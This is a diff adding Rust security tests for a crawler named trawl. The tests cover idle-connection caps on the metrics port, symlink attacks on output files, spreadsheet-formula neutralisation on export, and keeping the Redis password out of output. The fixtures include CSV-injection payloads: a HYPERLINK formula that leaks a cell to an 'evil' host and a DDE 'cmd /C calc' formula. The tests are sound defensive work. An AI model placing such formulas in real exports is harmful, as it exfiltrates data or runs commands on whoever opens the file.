@@ -1,0 +1,371 @@
+//! Hardening against whoever shares the machine with a crawl: idle crowds on the
+//! metrics port, links planted in the output directory, spreadsheet formulas in
+//! exported cells, and the Redis password kept out of everything trawl writes.
+
+use std::io::Read;
+use std::net::TcpStream;
+use std::os::unix::fs::{symlink, PermissionsExt};
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+use crate::common::*;
+
+/// A free port on 127.0.0.1 (bound, then released for trawl to take).
+fn free_addr() -> String {
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    l.local_addr().unwrap().to_string()
+}
+
+/// `GET /metrics` (HTTP/1.0, bounded): the whole reply, or None.
+fn scrape(addr: &str) -> Option<String> {
+    use std::io::Write;
+    let mut s = TcpStream::connect_timeout(&addr.parse().ok()?, Duration::from_secs(1)).ok()?;
+    s.set_read_timeout(Some(Duration::from_secs(3))).ok()?;
+    s.write_all(b"GET /metrics HTTP/1.0\r\nHost: x\r\n\r\n")
+        .ok()?;
+    let mut body = String::new();
+    s.read_to_string(&mut body).ok()?;
+    Some(body).filter(|b| b.starts_with("HTTP/1.0 200") || b.starts_with("HTTP/1.1 200"))
+}
+
+fn open_fds(pid: u32) -> usize {
+    std::fs::read_dir(format!("/proc/{pid}/fd"))
+        .map(|d| d.count())
+        .unwrap_or(0)
+}
+
+/// True once the server has closed `s` (EOF or reset); `s` is non-blocking.
+fn closed_by_peer(s: &mut TcpStream) -> bool {
+    let mut buf = [0u8; 64];
+    match s.read(&mut buf) {
+        Ok(0) => true,
+        Ok(_) => false,
+        Err(e) => e.kind() != std::io::ErrorKind::WouldBlock,
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_idle_crowd_on_the_metrics_port_is_capped_and_timed_out() {
+    // 80 pages at 300 ms, one at a time: the crawl outlives the test's checks.
+    let site = slow_tree(80, Duration::from_millis(300)).await;
+    let dir = tempfile::tempdir().unwrap();
+    let addr = free_addr();
+    let extra = [
+        "--per-host-rate=0",
+        "--per-host-concurrency=1",
+        "--metrics",
+        &addr,
+        "-q",
+    ];
+    let child = spawn_crawl(&site.url("/"), dir.path(), &extra);
+    let pid = child.id();
+    let a = addr.clone();
+    wait_until("metrics answer", Duration::from_secs(30), || {
+        scrape(&a).is_some()
+    })
+    .await;
+    let addr2 = addr.clone();
+    let checks = tokio::task::spawn_blocking(move || {
+        let before = open_fds(pid);
+        // 200 connections that never send a byte.
+        let (ok, failed): (Vec<_>, Vec<_>) = (0..200)
+            .map(|_| TcpStream::connect_timeout(&addr2.parse().unwrap(), Duration::from_secs(2)))
+            .partition(Result::is_ok);
+        let mut idle: Vec<TcpStream> = ok.into_iter().flatten().collect();
+        assert!(idle.len() >= 190, "connects failed: {failed:?}");
+        let opened = Instant::now();
+        std::thread::sleep(Duration::from_millis(300));
+        let held = open_fds(pid);
+        // A scraper still gets its page while the crowd is connected.
+        let answered = scrape(&addr2).is_some();
+        for s in &idle {
+            s.set_nonblocking(true).unwrap();
+        }
+        // Every idle connection is closed within the header timeout (5 s) plus a margin.
+        let deadline = opened + Duration::from_secs(12);
+        let mut open: Vec<usize> = (0..idle.len()).collect();
+        for _ in 0..200 {
+            open.retain(|&i| !closed_by_peer(&mut idle[i]));
+            if open.is_empty() || Instant::now() > deadline {
+                break;
+            }
+            std::thread::sleep(Duration::from_millis(100));
+        }
+        (before, held, answered, open.len(), opened.elapsed())
+    });
+    let (before, held, answered, still_open, took) = checks.await.unwrap();
+    signal(&child, "-INT");
+    let out = finish(child).await;
+    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
+    assert!(
+        held <= before + 64 + 4,
+        "200 idle connections held {} descriptors (before: {before})",
+        held
+    );
+    assert!(
+        answered,
+        "/metrics did not answer beside 200 idle connections"
+    );
+    assert_eq!(
+        still_open, 0,
+        "{still_open} idle connections still open after {took:?}"
+    );
+}
+
+/// A file outside the output directory that planted links point at.
+fn victim() -> (tempfile::TempDir, std::path::PathBuf) {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("victim");
+    std::fs::write(&path, "precious").unwrap();
+    (dir, path)
+}
+
+fn mode(path: &Path) -> u32 {
+    std::fs::symlink_metadata(path)
+        .unwrap()
+        .permissions()
+        .mode()
+        & 0o777
+}
+
+fn is_link(path: &Path) -> bool {
+    std::fs::symlink_metadata(path)
+        .map(|m| m.file_type().is_symlink())
+        .unwrap_or(false)
+}
+
+async fn small_site() -> Site {
+    let site = Site::start().await;
+    site.set(
+        "/",
+        html_page("=HYPERLINK(\"http://evil/?\"&amp;A1)", &["/a", "/b"]),
+    );
+    site.set("/a", html_page("+1+cmd|' /C calc'!A0", &[]));
+    site.set("/b", html_page("plain", &[]));
+    site.set("/robots.txt", Reply::Status(404));
+    site
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_link_planted_at_the_stats_temporary_file_is_never_written_through() {
+    let site = small_site().await;
+    let (_keep, target) = victim();
+    let out = tempfile::tempdir().unwrap();
+    symlink(&target, out.path().join("stats.json.tmp")).unwrap();
+    let args = crawl_args(&site.url("/"), out.path(), &["--per-host-rate=0", "-q"]);
+    let run = run_trawl_async(args, Duration::from_secs(60)).await;
+    run.assert_code(0);
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious");
+    let stats_path = out.path().join("stats.json");
+    assert!(!is_link(&stats_path), "stats.json is a link");
+    assert_eq!(stats(out.path())["pages"], 3);
+    // Outputs are not world-readable (0640 before the umask).
+    for name in ["stats.json", "pages.jsonl"] {
+        let m = mode(&out.path().join(name));
+        assert_eq!(m & 0o007, 0, "{name} is {m:o}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn merge_and_export_never_write_through_a_planted_link() {
+    let site = small_site().await;
+    let out = tempfile::tempdir().unwrap();
+    let args = crawl_args(&site.url("/"), out.path(), &["--per-host-rate=0", "-q"]);
+    run_trawl_async(args, Duration::from_secs(60))
+        .await
+        .assert_code(0);
+    let (_keep, target) = victim();
+    let dest = tempfile::tempdir().unwrap();
+
+    // merge: its temporary file is never reached through a link.
+    let merged = dest.path().join("merged.jsonl");
+    symlink(&target, dest.path().join("merged.jsonl.merging")).unwrap();
+    let m = [
+        "merge".to_string(),
+        out.path().display().to_string(),
+        "-o".into(),
+        merged.display().to_string(),
+    ];
+    run_trawl_async(m.to_vec(), Duration::from_secs(30))
+        .await
+        .assert_code(0);
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious");
+    assert_eq!(std::fs::read_to_string(&merged).unwrap().lines().count(), 3);
+    assert_eq!(mode(&merged) & 0o007, 0);
+
+    // export -o: a link at the destination is replaced, its target left alone.
+    let csv = dest.path().join("out.csv");
+    symlink(&target, &csv).unwrap();
+    let e = [
+        "export".to_string(),
+        out.path().display().to_string(),
+        "--fields".into(),
+        "url,title".into(),
+        "-o".into(),
+        csv.display().to_string(),
+    ];
+    run_trawl_async(e.to_vec(), Duration::from_secs(30))
+        .await
+        .assert_code(0);
+    assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious");
+    assert!(!is_link(&csv));
+    assert_eq!(std::fs::read_to_string(&csv).unwrap().lines().count(), 4);
+    // Nothing but the two outputs and the planted link are left behind.
+    let names: Vec<String> = std::fs::read_dir(dest.path())
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(names.len(), 3, "{names:?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn exported_formulas_are_neutralised_unless_raw_cells_is_asked() {
+    let site = small_site().await;
+    let out = tempfile::tempdir().unwrap();
+    let args = crawl_args(&site.url("/"), out.path(), &["--per-host-rate=0", "-q"]);
+    run_trawl_async(args, Duration::from_secs(60))
+        .await
+        .assert_code(0);
+    let export = |extra: &[&str]| {
+        let mut a = vec![
+            "export".to_string(),
+            out.path().display().to_string(),
+            "--fields".into(),
+            "title".into(),
+        ];
+        a.extend(extra.iter().map(|s| s.to_string()));
+        run_trawl_async(a, Duration::from_secs(30))
+    };
+    let safe = export(&[]).await;
+    safe.assert_code(0);
+    let mut lines: Vec<&str> = safe.stdout.lines().skip(1).collect();
+    lines.sort();
+    assert_eq!(
+        lines,
+        [
+            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\"",
+            "'+1+cmd|' /C calc'!A0",
+            "plain"
+        ]
+    );
+    let tsv = export(&["--format", "tsv"]).await;
+    assert!(tsv.stdout.contains("\n'+1+cmd|"), "{}", tsv.stdout);
+    let raw = export(&["--raw-cells"]).await;
+    raw.assert_code(0);
+    assert!(
+        raw.stdout.contains("\n+1+cmd|' /C calc'!A0\n"),
+        "{}",
+        raw.stdout
+    );
+}
+
+/// Every file under `dir` (bounded walk), for a search of its bytes.
+fn files_under(dir: &Path) -> Vec<std::path::PathBuf> {
+    let mut out = Vec::new();
+    let mut todo = vec![dir.to_path_buf()];
+    for _ in 0..1000 {
+        let Some(d) = todo.pop() else { break };
+        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                todo.push(p);
+            } else {
+                out.push(p);
+            }
+        }
+    }
+    out
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_redis_password_is_never_printed_logged_or_stored() {
+    use crate::common::redis::Redis;
+    let password = "pw4Redact7x9q";
+    let mut redis = Redis::start_with_password(Some(password));
+    let url = redis.url();
+    assert!(url.contains(password));
+    let site = small_site().await;
+    let dir = tempfile::tempdir().unwrap();
+    let args = [
+        "crawl".to_string(),
+        site.url("/"),
+        "--out".into(),
+        dir.path().display().to_string(),
+        "--frontier".into(),
+        url.clone(),
+        "--crawl-id".into(),
+        "redact".into(),
+        "--worker-id".into(),
+        "w1".into(),
+        "--per-host-rate=0".into(),
+    ];
+    // Not quiet: the info log lines are searched too.
+    let crawl = run_trawl_async(args.to_vec(), Duration::from_secs(60)).await;
+    crawl.assert_code(0);
+    let status = |extra: &[&str]| {
+        let mut a = vec![
+            "status".to_string(),
+            "--frontier".into(),
+            url.clone(),
+            "--crawl-id".into(),
+        ];
+        a.extend(extra.iter().map(|s| s.to_string()));
+        run_trawl_async(a, Duration::from_secs(30))
+    };
+    let plain = status(&["redact"]).await;
+    plain.assert_code(0);
+    let json = status(&["redact", "--json"]).await;
+    json.assert_code(0);
+    let missing = status(&["no-such-crawl"]).await;
+    assert_ne!(missing.code, Some(0));
+    assert!(missing.stderr.contains("***"), "{}", missing.stderr);
+    // A wrong password and an unreachable Redis: one-line errors, no password.
+    let wrong = url.replace(password, "wrongPassw0rdZ");
+    let refused = run_trawl_async(
+        vec![
+            "status".into(),
+            "--frontier".into(),
+            wrong,
+            "--crawl-id".into(),
+            "redact".into(),
+        ],
+        Duration::from_secs(30),
+    )
+    .await;
+    assert_ne!(refused.code, Some(0));
+    assert!(
+        !refused.stderr.contains("wrongPassw0rdZ"),
+        "{}",
+        refused.stderr
+    );
+    redis.stop();
+    let down = status(&["redact"]).await;
+    assert_ne!(down.code, Some(0));
+    for out in [&crawl, &plain, &json, &missing, &down] {
+        assert!(
+            !out.stdout.contains(password) && !out.stderr.contains(password),
+            "password shown:\n{}\n{}",
+            out.stdout,
+            out.stderr
+        );
+    }
+    // Nor in any file the crawl wrote, nor in anything Redis stored (its
+    // append-only files hold every write, flushed by the clean stop above).
+    let mut searched = 0;
+    for f in files_under(dir.path())
+        .into_iter()
+        .chain(files_under(redis.data_dir()))
+    {
+        let bytes = std::fs::read(&f).unwrap_or_default();
+        searched += bytes.len();
+        assert!(
+            !bytes
+                .windows(password.len())
+                .any(|w| w == password.as_bytes()),
+            "password in {}",
+            f.display()
+        );
+    }
+    assert!(searched > 1000, "nothing searched ({searched} bytes)");
+}
